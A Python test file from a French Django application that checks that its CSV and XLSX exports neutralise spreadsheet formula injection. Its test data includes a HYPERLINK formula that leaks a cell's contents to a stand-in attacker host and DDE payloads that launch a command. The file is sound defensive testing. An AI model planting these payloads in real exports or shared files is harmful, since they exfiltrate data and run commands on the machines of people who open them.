"""CSV injection (issue 10, finding 2): no export lets a user-controlled text become a live spreadsheet formula.

Each export is fed a hostile name (a user's name, a cell of an imported file) and read back as a spreadsheet reads
it: no cell may start with a formula trigger. `core.exports.neutralise` is the one function behind every export.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from core.exports import FORMULA_TRIGGERS, neutralise
from habilitations.journal import Event
from tests.bailleur.factories import landlord, tenancy
from tests.cdap.test_supervision import ADMIN_URL, EXPORT_URL, consult
from tests.factories import UserFactory, habilitated_user
from tests.habilitations.test_conventions_views import World, manager_client
from tests.habilitations.test_imports import csv_upload, result_url, verify
from tests.portal.test_otp import enrol

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attaquant.example/?d="&A1,"Cliquez")'
XLSX_URL = EXPORT_URL[: -len("csv")] + "xlsx"
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), f"cell read as a formula: {cell!r}"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [12, -3, Decimal("-1049.52"), 1.5, None, "-12,50", "+33612345678", "0610001"])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["Dupré-Lefèvre", "a=b", " =1", "", "T1-ASS"])
def test_plain_text_is_unchanged(value):
    assert neutralise(value) == value


def test_supervision_cdap_export(client, login):
    supervisor, group = habilitated_user("SUPERVISION_CDAP", service_group_code="SUP")
    worker = UserFactory(organism=group.convention.organism, nom=HYPERLINK, prenom="@prenom")
    consult(worker, Event.CDAP_RUBRIC, rubric="paiements", dossier="1000001")
    login(supervisor)
    rows = cells(b"".join(client.get(EXPORT_URL).streaming_content))
    assert len(rows) == 2
    assert_no_formula(rows)
    assert "'" + HYPERLINK.upper() + " @prenom" in rows[1]


def test_supervision_cdap_xlsx_export(client, login):
    supervisor, group = habilitated_user("SUPERVISION_CDAP", service_group_code="SUP")
    worker = UserFactory(organism=group.convention.organism, nom=HYPERLINK, prenom="@prenom")
    consult(worker, Event.CDAP_RUBRIC, rubric="paiements", dossier="1000001")
    login(supervisor)
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(client.get(XLSX_URL).streaming_content))).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 1
    texts = [cell.value for cell in rows[0] if cell.data_type == "s"]
    assert_no_formula([texts])
    assert all(cell.data_type != "f" for cell in rows[0])
    assert "'" + HYPERLINK.upper() + " @prenom" in texts


def test_bailleur_payments_exports(client, login):
    """« Paiements » of the Espace Bailleur (issue 14.5): a tenant's name and address are the Caf's data, imported."""
    user, organism = landlord()
    tenancy(organism, responsable__nom=HYPERLINK, responsable__prenom="@prenom", adresse="=cmd|' /C calc'!A0")
    login(user)
    rows = cells(b"".join(client.get("/espace-bailleur/paiements/export.csv").streaming_content))
    assert len(rows) == 1 + 3
    assert_no_formula(rows)
    assert rows[1][3] == "'" + HYPERLINK.upper() and rows[1][4] == "'@prenom" and rows[1][5] == "'=cmd|' /C calc'!A0"
    raw = b"".join(client.get("/espace-bailleur/paiements/export.xlsx").streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        assert_no_formula([[cell.value for cell in row if cell.data_type == "s"]])
    assert sheet.cell(row=2, column=4).value == "'" + HYPERLINK.upper()


def test_caf_agents_consultations_export(client, login):
    _, group = habilitated_user("SUPERVISION_CDAP", service_group_code="SUP")
    worker = UserFactory(organism=group.convention.organism, nom=HYPERLINK, prenom="x")
    entry = consult(worker, Event.CDAP_RUBRIC, rubric="paiements", dossier="1000001")
    enrol(client, login, UserFactory(agent=True))
    response = client.post(ADMIN_URL, {"action": "export_csv", "index": "0", "_selected_action": [entry.pk]})
    rows = cells(b"".join(response.streaming_content))
    assert len(rows) == 2
    assert_no_formula(rows)
    assert any(cell.startswith("'=HYPERLINK") for cell in rows[1])


def test_the_import_report_of_rejected_lines():
    world = World()
    admin = manager_client(world.admin)
    upload = csv_upload(
        [
            f"{HYPERLINK};=cmd|' /C calc'!A0;pas-une-adresse;;;;;@GROUPE",
            "Lagare;Xavier;x.lagare@partenaire.fr;;;;;T1;oui",  # T1 gives a CDAP profile: qualification attested
        ]
    )
    response, token = verify(admin, world, upload)
    assert token, response.content.decode()
    page = response.content.decode()
    assert f'href="{result_url(world, token)}detail.csv"' in page
    report = admin.get(f"{result_url(world, token)}detail.csv")
    assert report["Content-Disposition"].startswith('attachment; filename="import-utilisateurs-')
    rows = cells(b"".join(report.streaming_content))
    assert rows[0] == [
        "Ligne",
        "Nom",
        "Prénom",
        "Adresse mail",
        "Groupe",
        "Identifiant",
        "Résultat",
        "Colonne",
        "Motif",
    ]
    assert len(rows) == 3
    assert_no_formula(rows)
    hostile = rows[1]
    assert hostile[1] == "'" + HYPERLINK and hostile[2] == "'=cmd|' /C calc'!A0" and hostile[6] == "Rejetée"
    assert hostile[7] == "email" and "adresse" in hostile[8].lower()
    assert rows[2][1] == "Lagare" and rows[2][6] == "Création de l'utilisateur et ajout au groupe"
    # Another administrator's token (or an unknown one) is not theirs: 404.
    assert admin.get(f"{result_url(world, 'inconnu')}detail.csv").status_code == 404
